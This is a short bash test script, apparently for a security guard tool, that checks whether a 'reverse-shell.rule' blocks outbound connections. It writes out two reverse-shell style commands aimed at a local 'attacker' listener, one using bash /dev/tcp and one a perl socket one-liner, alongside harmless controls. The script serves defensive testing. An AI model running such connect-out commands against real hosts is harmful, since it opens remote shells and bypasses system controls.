#!/bin/bash
# Shows that a shell cannot connect out, and that a one-line socket program never runs.
. "$(dirname "$0")/../stage.sh"

set_stage
listen 127.0.0.1 14444 "$stage/attacker"

say "The guard starts on reverse-shell.rule:"
start_guard

attack "A reverse shell, as bash makes it:" bash -c 'exec 3<>/dev/tcp/127.0.0.1/14444 && echo "shell is open" >&3'
attack "One made by an interpreter:" perl -MIO::Socket::INET -e \
	'my $s = IO::Socket::INET->new("127.0.0.1:14444") or die; print $s "shell is open\n";'
allowed "An interpreter that does other things:" perl -e 'print "hello\n"'
allowed "A shell that stays at home:" bash -c 'echo hello'
if [[ -s $stage/attacker ]]; then
	say "The attacker received:"
	show <"$stage/attacker"
	failed=1
else
	say "The attacker received nothing."
fi
close_stage
